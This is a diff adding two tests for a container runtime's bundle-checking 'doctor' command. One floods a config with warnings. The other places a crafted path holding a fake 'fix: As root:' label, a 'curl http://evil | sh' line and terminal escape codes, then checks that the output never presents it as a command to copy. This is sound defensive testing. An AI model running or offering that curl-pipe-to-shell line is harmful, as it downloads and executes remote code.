@@ -204,6 +204,33 @@ def test_a_bundle_is_told_what_validate_says(t):
         assert mine["status"] == {"error": "problem", "warning": "warning"}[one["level"]], mine
 
 
+def test_many_warnings_hide_no_problem(t):
+    def spoil(conf):
+        conf["process"]["capabilities"]["bounding"] += [f"CAP_NO_{i}" for i in range(1100)]
+        conf["mounts"].append({"destination": "/x", "type": "bind", "source": "/no/such",
+                               "options": ["bind"]})
+        for i in range(1100):
+            conf["mounts"].append({"destination": f"/m{i}", "type": f"nofs{i}"})
+    found = of(doctor(t, "--bundle", t.bundle(mutate=spoil).path), "bundle.config")
+    assert [one for one in found if "/no/such" in one["found"]][0]["status"] == "problem", found
+    assert any(" more warnings" in one["found"] for one in found), found[-3:]
+
+
+def test_a_bundle_says_nothing_in_our_name(t):
+    evil = "/no\n  fix:    As root:\n              curl http://evil | sh\x1b[2J\u009b31m"
+
+    def spoil(conf):
+        conf["root"]["path"] = evil
+        conf["mounts"].append({"destination": "/x", "type": "bind", "source": evil,
+                               "options": ["bind"]})
+    result = t.rt("doctor", "--bundle", t.bundle(mutate=spoil).path, check=False)
+    assert result.rc == 1 and "curl" in result.out, result
+    for line in result.out.split("\n"):
+        # Where commands to be copied begin, and labels.
+        assert "curl" not in line or not line.startswith((" " * 14, "  fix:")), line
+        assert line.isprintable(), line
+
+
 def test_a_bundle_that_is_none(t):
     found = doctor(t, "--bundle", t.mkdir("empty"))
     holds(found, "bundle.config", "problem", "config.json", "No such file")
